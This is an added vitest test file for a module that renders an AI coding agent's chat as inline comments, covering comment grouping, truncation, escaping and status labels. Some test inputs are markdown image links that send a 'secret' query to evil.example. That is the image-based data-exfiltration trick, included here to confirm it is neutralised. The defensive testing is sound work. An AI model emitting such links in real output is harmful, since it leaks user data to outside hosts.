@@ -1,0 +1,123 @@
+import { describe, expect, it } from "vitest";
+
+import {
+  inlineComments,
+  inlineLabel,
+  MAX_COMMENT_CHARS,
+  plain,
+  withoutImages,
+} from "../../src/pure/inline-thread";
+import type { ChatView, Item, ToolItem } from "../../src/pure/view";
+import { EMPTY_HEAD, EMPTY_VIEW } from "../../src/pure/view";
+
+const t = (text: string): string => text;
+
+const TOOL: ToolItem = {
+  type: "tool",
+  id: "t1",
+  title: "price_list.py",
+  kind: "edit",
+  toolName: "Edit",
+  status: "completed",
+  command: "",
+  output: "",
+  terminalId: "",
+  diffs: [{ path: "/w/price_list.py", added: 2, removed: 1, created: false }],
+  locations: [],
+  startedAtMs: 0,
+  durationMs: 1,
+  messageId: "m",
+  parentId: "",
+};
+
+function text(id: string, content: string): Item {
+  return { type: "text", id, messageId: "m", text: content, done: true };
+}
+
+function prompt(id: string, content: string): Item {
+  return { type: "prompt", id, text: content, queued: false };
+}
+
+function view(items: readonly Item[], sending: readonly string[] = []): ChatView {
+  const head = { ...EMPTY_HEAD, sending: sending.map((each, id) => ({ id, text: each })) };
+  return { ...EMPTY_VIEW, items, head };
+}
+
+describe("the comments of an inline chat", () => {
+  it("are one for each prompt and one for its whole answer", () => {
+    const comments = inlineComments(
+      view([
+        prompt("p1", "Round up"),
+        text("a", "I look first."),
+        TOOL,
+        { ...TOOL, id: "t2", status: "denied" },
+        text("b", "Done."),
+        prompt("p2", "And down?"),
+        text("c", "No."),
+      ]),
+      t,
+    );
+    expect(comments.map(({ author }) => author)).toEqual(["user", "agent", "user", "agent"]);
+    expect(comments[1]?.markdown).toBe(
+      [
+        "I look first.",
+        "",
+        String.raw`- Edit price\_list\.py (+2 −1)`,
+        String.raw`- Edit price\_list\.py (+2 −1) – denied`,
+        "",
+        "Done.",
+      ].join("\n"),
+    );
+  });
+
+  it("show a prompt before the server has confirmed it, once", () => {
+    expect(inlineComments(view([], ["Hello"]), t)).toEqual([{ author: "user", markdown: "Hello" }]);
+    expect(inlineComments(view([prompt("p", "Hello")], ["Hello"]), t)).toHaveLength(1);
+  });
+
+  it("name errors, and that the user stopped it", () => {
+    const items: Item[] = [
+      { type: "error", id: "e", message: "No <b>network</b>" },
+      { type: "turn", id: "u", reason: "aborted_streaming", durationMs: 1, files: [] },
+    ];
+    const [comment] = inlineComments(view(items), t);
+    expect(comment?.markdown).toBe(String.raw`**No \<b\>network\</b\>**` + "\n\n_Stopped._");
+  });
+
+  it("are cut when they are long, and say so", () => {
+    const [comment] = inlineComments(view([text("a", "x".repeat(MAX_COMMENT_CHARS * 2))]), t);
+    expect(comment?.markdown.length).toBeLessThan(MAX_COMMENT_CHARS + 100);
+    expect(comment?.markdown).toContain("The rest is in the chat.");
+  });
+});
+
+describe("Markdown of the model", () => {
+  it.each([
+    ["![a](https://evil.example/?q=secret)", String.raw`!\[a](https://evil.example/?q=secret)`],
+    ["a ![b][ref]\n\n[ref]: https://evil.example", "a !\\[b][ref]\n\n[ref]: https://evil.example"],
+    ["```js`x\n![a](u)\n```", "```js`x\n!\\[a](u)\n```"],
+    ["```\n```\n![a](u)", "```\n```\n!\\[a](u)"],
+    ["````\n```\n````\n![a](u)", "````\n```\n````\n!\\[a](u)"],
+    ["``` ```\n![a](u)", "``` ```\n!\\[a](u)"],
+  ])("loads no picture: %j", (markdown, shown) => {
+    expect(withoutImages(markdown)).toBe(shown);
+  });
+
+  it("leaves code as it is", () => {
+    const code = "```js\nif (![1].includes(x)) return;\n```";
+    expect(withoutImages(code)).toBe(code);
+  });
+});
+
+describe("text as text", () => {
+  it("has no Markdown in it", () => {
+    expect(plain("*a* [b](c) <d> ![e](f)")).toBe(String.raw`\*a\* \[b\]\(c\) \<d\> \!\[e\]\(f\)`);
+  });
+});
+
+describe("the label", () => {
+  it("says what the conversation is doing", () => {
+    const labels = (["idle", "running", "requires_action"] as const).map((s) => inlineLabel(s, t));
+    expect(new Set(labels).size).toBe(3);
+  });
+});
